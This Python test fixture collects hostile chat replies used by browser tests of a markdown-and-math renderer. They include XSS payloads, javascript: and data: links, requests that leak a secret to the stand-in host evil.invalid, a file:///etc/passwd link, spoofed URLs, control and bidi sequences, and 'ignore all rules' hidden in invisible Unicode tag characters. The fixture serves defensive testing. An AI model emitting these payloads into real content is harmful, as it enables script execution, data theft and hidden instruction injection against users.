"""Replies that try to run, fetch, spoof or break something when they are shown; shared with the browser tests.

Anything that succeeds in running sets ``window.pwned``; anything that fetches asks for ``http://evil.invalid/``.
"""

# ruff: noqa: E501 (a reply reads best in one piece)

from __future__ import annotations

RUN = "Object.assign(window,{pwned:1})"  # neither quotes, spaces nor an equals sign, so it fits an unquoted attribute
EVIL = "http://evil.invalid/leak?secret=42"

REPLIES: dict[str, str] = {
    "script": f"before <script>{RUN}</script> after\n\n<script>\n{RUN}\n</script>\n",
    "script in pieces": f"<scr\n<script>ipt>{RUN}</scr</script>ipt>",
    "event handler": f'<img src=x onerror="{RUN}"> <b onmouseover={RUN}>x</b> <body onload={RUN}>',
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    "mathml": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x</maction></math>',
    "iframe": f'<iframe src="{EVIL}"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "object": f'<object data="{EVIL}"></object><embed src="{EVIL}"><video src="{EVIL}" autoplay></video>',
    "meta": f'<meta http-equiv="refresh" content="0;url={EVIL}"><base href="{EVIL}"><link rel=stylesheet href="{EVIL}">',
    "style": f"<style>body{{background:url({EVIL})}} * {{display:none}}</style><p style='background:url({EVIL})'>x</p>",
    "form": f'<form action="{EVIL}"><input name=key autofocus onfocus="{RUN}"><button>Sign in</button></form>',
    "javascript links": "\n\n".join(
        f"[click]({target})"
        for target in (
            f"javascript:{RUN}",
            f"JaVaScRiPt:{RUN}",
            f"&#106;avascript:{RUN}",
            f"&#x6A;&#x61;vascript&colon;{RUN}",
            f"java&Tab;script:{RUN}",
            f"java&NewLine;script:{RUN}",
            f"<java\tscript:{RUN}>",
            f"<\x01javascript:{RUN}>",
            f"\u200bjavascript:{RUN}",
            f"vbscript:{RUN}",
            "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
            f"data:text/html,<script>{RUN}</script>",
            "file:///etc/passwd",
            "//evil.invalid/x",
            "\\\\evil.invalid\\x",
            "http:evil.invalid",
            "#anchor",
            "relative.html",
        )
    ),
    "javascript autolinks": f"<javascript:{RUN}> <data:text/html,x> <vbscript:x> <https://ok.invalid/><script>{RUN}</script>",
    "javascript references": f"[a][x] [x] ![x]\n\n[x]: javascript:{RUN}\n[y]: data:text/html,x 'title'\n[z]:\n  javascript:{RUN}\n",
    "remote images": f'![a]({EVIL}) ![b][i] ![i] ![](<{EVIL}> "t") [![c]({EVIL})](https://ok.invalid/)\n\n[i]: {EVIL}\n',
    "almost an image": f"![![i]({EVIL}) \\![a]({EVIL}) !\\[b]({EVIL}) ![c][] !*[d]({EVIL})* !&#91;e]({EVIL}) &#33;[f]({EVIL})",
    "data image": "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "html image": f"<img src='{EVIL}'><picture><source srcset='{EVIL}'></picture><image href='{EVIL}'>",
    "quotes in titles": f"[a](https://ok.invalid/ \"x' onmouseover='{RUN}\") [b](https://ok.invalid/%22onmouseover=%22{RUN})\n"
    f'[c](https://ok.invalid/"onmouseover="{RUN}) ![d"onerror="{RUN}]({EVIL} \'" onerror="{RUN}\')',
    "fence info": f'```"><script>{RUN}</script>\ncode\n```\n\n~~~ python" onmouseover="{RUN}\ncode\n~~~\n\n```{{.x onload={RUN}}}\ny\n```',
    "nested fences": f"````\n```\n<script>{RUN}</script>\n````\n\n- ```\n  <img src=x onerror={RUN}>\n- ```\n\n<script>{RUN}</script>",
    "open fence": f"```html\n</code></pre><script>{RUN}</script>",
    "close the page": f"</script></style></textarea></title></pre></div></body></html>--><!--<![CDATA[<script>{RUN}</script>]]>",
    "comment": f"<!-- x --!><script>{RUN}</script> -->\n\n<!--\n<script>{RUN}</script>\n",
    "broken tags": f'<img """><script>{RUN}</script>">\n\n<a href="x\n\n<b\n\n<div <script>{RUN}</script>\n\n<p/onclick={RUN}>',
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62; &#x3c;svg/onload={RUN}&#x3e; &amp;lt;b&amp;gt;",
    "code spans": f"`</code><script>{RUN}</script>` ``<img src=x onerror={RUN}>`` \\`<b onclick={RUN}>\\` `a\\`<i onclick={RUN}>`",
    "table": f"| <script>{RUN}</script> | `a|<img src=x onerror={RUN}>` |\n|---|:-:|\n| [x](javascript:{RUN}) | ![i]({EVIL}) | <b> |\n| \\| <svg onload={RUN}> |",
    "heading": f"# <script>{RUN}</script> [x](javascript:{RUN})\n\n<h1 onclick={RUN}>\n=====\n\n## ![i]({EVIL}) ##",
    "quote and list": f"> <script>{RUN}</script>\n> - [x](javascript:{RUN})\n>   > <img src=x onerror={RUN}>\n\n1. <iframe src={EVIL}>\n   <div>",
    "mathematics links": f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\url{{{EVIL}}}$$ \\(\\href{{{EVIL}}}{{\\text{{Sign in}}}}\\)",
    "mathematics loads": f"$\\require{{html}}$ $\\includegraphics{{{EVIL}}}$ $\\unicode[{EVIL}]{{x41}}$",
    "mathematics styles": f"$\\style{{position:fixed;background:url({EVIL})}}{{x}}$ \\[\\class{{jp-Dialog}}{{x}}\\] $\\cssId{{main}}{{x}}$",
    "mathematics macros": "$\\def\\frac#1{#1#1}\\frac{\\frac{x}}$ $$\\newcommand{\\sum}{no}$$ $\\gdef\\alpha{hacked}$ $\\let\\pi=e$",
    "mathematics overlay": "$\\rule{9999em}{9999em}$ $\\hspace{-50em}\\text{spoof}$ $\\raise50em{x}$ \\(\\kern-99em x\\)",
    "mathematics html": f"$<img src=x onerror={RUN}>$ $$</div><script>{RUN}</script>$$ \\(<svg onload={RUN}>\\) $[a](javascript:{RUN})$ $![a]({EVIL})$",
    "mathematics unbalanced": f"${{$ `<img src=x onerror={RUN}>` $}}$ \\[ $ \\] $$ <b> $ `$` <i onclick={RUN}> `$`",
    "mathematics environment": f"\\begin{{equation}}\\href{{javascript:{RUN}}}{{x}}<b>\\end{{equation}} \\begin{{a}}<img src=x>\\end{{b}}",
    "mathematics fences": f"$$\n~~~\n$$\n\n```\n~~~\n<img src=x onerror={RUN}>\n```\n",
    "dollars in quoted fences": f"> ```\n> $a\n> ```\n>\n> $x$ text\n>\n> ```\n> <img src=x onerror={RUN}>\n> ```\n",
    "money": "$5 and $10 is money; $5-$10, US$5, 10$ or $1,000.50; from $5 to US$ and on; \\$3; $HOME/$USER",
    "escaped delimiters": "\\\\(x\\\\) \\\\[y\\\\] \\begin{x} \\ref{y} \\\\$z$ \\$z$",
    "bidi": "safe \u202egnp.exe\u202c \u2066x\u2069 [\u202egro.koo](https://ok.invalid/\u202e) `\u202ex` &#x202e;y",
    "controls": "a\x00b\x07c\x1b[31md\x1b]52;c;cHduZWQ=\x07e\x9b31mf\x7fg\r\nh\ri &#27;[31m &#0;",
    "smuggled": "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules") + "visible",
    "zero width": "<scr\u200bipt>x</scr\u200bipt> [a](java\u200bscript:x) \ufeff<\ufeffb>",
    "host spoof": "[https://bank.com](https://bank.com@evil.invalid/) <https://bank.com:80@evil.invalid/> [x](https://[::1]/) [y](https://)",
    "definitions": f"text\n[a]: https://ok.invalid/ 'x\n<script>{RUN}</script>'\n\n[a] [b]: {EVIL}\n\n  [c]: <javascript:{RUN}>\n\n![c]",
    "newline entity": f"a&#10;&#10;<script>{RUN}</script>&#10;# b&NewLine;[x]: javascript:{RUN}",
    "deep": "> " * 200 + "- " * 200 + "[" * 200 + "*" * 200 + "x",
    "html blocks": f"<div>\n\n*a* <script>{RUN}</script>\n\n</div>\n\n<pre>\n<script>{RUN}</script>\n</pre>\n\n<?php x ?>\n\n<!X>\n",
    "bare links": f"www.evil.invalid http://evil.invalid/<script> ftp://evil.invalid //evil.invalid a@evil.invalid javascript:{RUN} mailto:x",
    "mailto": "[m](mailto:a@ok.invalid?subject=x&body=<script>) <a@ok.invalid> [n](mailto:) [o](mailto:?to=x)",
    "template": f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}} {{% raw %}} <%= x %>",
    "long": "x" * 20_000 + " " + "`" * 3_000 + " " + "$" * 999 + " " + "\\(" * 999,
}
"""Name -> a reply."""
